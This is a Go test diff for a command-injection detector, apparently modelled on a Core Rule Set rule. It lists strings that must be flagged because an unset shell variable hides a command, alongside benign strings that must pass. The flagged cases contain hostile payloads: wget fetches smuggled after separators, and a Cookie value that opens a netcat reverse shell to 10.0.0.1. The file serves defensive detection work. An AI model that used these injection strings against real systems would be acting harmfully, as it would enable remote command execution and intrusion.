@@ -41,3 +41,21 @@ func TestUnsetVariableAndSubcommandBinary(t *testing.T) {
 		{"q", "I use ansible-playbook daily", 0},
 	}, 0.9)
 }
+
+// A word that is a variable alone before a command ("|$u wget x", the
+// CRS's 932235): unset, it expands to no word and the command runs.
+// Templates and shell prompts are no such word.
+func TestVariableWordBeforeCommand(t *testing.T) {
+	checkFamily(t, "cmdi", []familyCase{
+		{"q", "|$u wget test", 0.99},
+		{"q", ";$u wget http://x.example/a", 0.99},
+		{"q", ";$a ${b} id", 0.99},
+		{"header:Cookie", "x;${IFSX} nc -e /bin/sh 10.0.0.1 4444", 0.99},
+	}, []familyCase{
+		{"q", "Hello $name how are you", 0},
+		{"q", "$ wget http://example.com/file.tgz", 0},
+		{"q", "the $user set the value", 0},
+		{"q", "$count files; $size bytes", 0},
+		{"q", "Total: $5 cat food", 0},
+	}, 0.9)
+}
